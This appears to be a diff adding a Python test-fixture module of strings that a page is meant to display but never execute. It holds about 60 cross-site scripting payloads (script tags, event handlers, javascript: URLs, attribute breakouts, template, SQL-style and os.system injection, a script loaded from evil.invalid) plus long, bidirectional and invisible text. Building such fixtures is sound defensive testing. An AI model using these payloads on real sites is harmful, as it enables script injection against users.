@@ -1,0 +1,88 @@
+"""Strings that a page must show and never obey: 60 that would run a script, and text that fits nowhere."""
+
+#: each calls harm() where a page takes it for HTML, SVG, an address, a stylesheet, a template or a program
+XSS = (
+    # a script of its own, also where another element is open
+    "<script>harm()</script>",
+    "<SCRIPT SRC=//evil.invalid/harm.js></SCRIPT>",
+    "<scr<script>ipt>harm()</scr</script>ipt>",
+    "</script><script>harm()</script>",
+    "</style><script>harm()</script>",
+    "</title><script>harm()</script>",
+    "</textarea><script>harm()</script>",
+    "--><script>harm()</script>",
+    "]]><script>harm()</script>",
+    "<script type=module>import('data:text/javascript,harm()')</script>",
+    # events that need nobody
+    "<img src=x onerror=harm()>",
+    '"><img src=x onerror=harm()>',
+    "'><img src=x onerror=harm()>",
+    "<img src=x:x onerror\n=\nharm()//",
+    "<svg onload=harm()>",
+    "<svg/onload=harm()>",
+    "</text></svg><svg onload=harm()>",
+    "<svg><animate onbegin=harm() attributeName=x dur=1s>",
+    "<svg><set onbegin=harm() attributeName=x to=y>",
+    "<svg><script>harm()</script></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>parent.harm()</script>'></iframe></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=harm()>",
+    '<noscript><p title="</noscript><img src=x onerror=harm()>">',
+    "<video><source onerror=harm()></video>",
+    "<audio src=x onerror=harm()></audio>",
+    "<body onload=harm()>",
+    "<details open ontoggle=harm()>",
+    "<input autofocus onfocus=harm()>",
+    "<select autofocus onfocus=harm()></select>",
+    "<marquee onstart=harm()>x</marquee>",
+    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=harm()>x</b>",
+    # frames and addresses
+    '<iframe src="javascript:parent.harm()"></iframe>',
+    '<iframe srcdoc="<script>parent.harm()</script>"></iframe>',
+    '<object data="javascript:harm()"></object>',
+    '<embed src="javascript:harm()">',
+    '<a href="javascript:harm()">a link</a>',
+    '<svg><a xlink:href="javascript:harm()"><text y="20">a link</text></a></svg>',
+    '<form action="javascript:harm()"><button>a button</button></form>',
+    '<meta http-equiv="refresh" content="0;url=javascript:harm()">',
+    '<base href="javascript:harm()//">',
+    "javascript:harm()",
+    "data:text/html,<script>harm()</script>",
+    "[a link](javascript:harm())",
+    # out of an attribute
+    '" onmouseover="harm()',
+    "' onmouseover='harm()",
+    '" autofocus onfocus="harm()" x="',
+    '" style="position:fixed;inset:0" onmousemove="harm()',
+    '1" data-act="reset" x="',
+    # a stylesheet
+    "<style>*{display:none!important}</style>",
+    "red;background:url(//evil.invalid/harm)}*{display:none!important}",
+    # a template, or a program
+    "{{constructor.constructor('harm()')()}}",
+    "${harm()}{0.__class__}{x}%s%(y)s",
+    "';harm();//",
+    '";harm();//',
+    '"); __import__("os").system("harm"); ("',
+    # written otherwise
+    "&lt;img src=x onerror=harm()&gt;",
+    "&#60;script&#62;harm()&#60;/script&#62;",
+    "%3Cscript%3Eharm()%3C/script%3E",
+    "\\u003cscript\\u003eharm()\\u003c/script\\u003e",
+    # an element that takes another's name
+    "<form id=jupyterapp><input name=shell></form>",
+)
+
+UUID = "6f1c2a34-97d5-4f0e-8a57-0d4f2d1c9e11"
+#: text that is wide, high, backwards, or not there
+ODD = (
+    "x" * 10_000,
+    "W" * 10_000 + " (1999)",
+    "a word " * 1_500,
+    "\u0641\u064a\u0644\u0645 " * 400 + "(2001)",  # from the right to the left
+    "\u05e1\u05e8\u05d8 (1971), \u202e<b>drawkcab</b> (1972)",  # turned round, and never turned back
+    "e" + "\u0301" * 200,  # a tower of accents
+    "\u200b\u200d\ufeff",  # nothing to see
+    "",
+    " ",
+    UUID,
+)
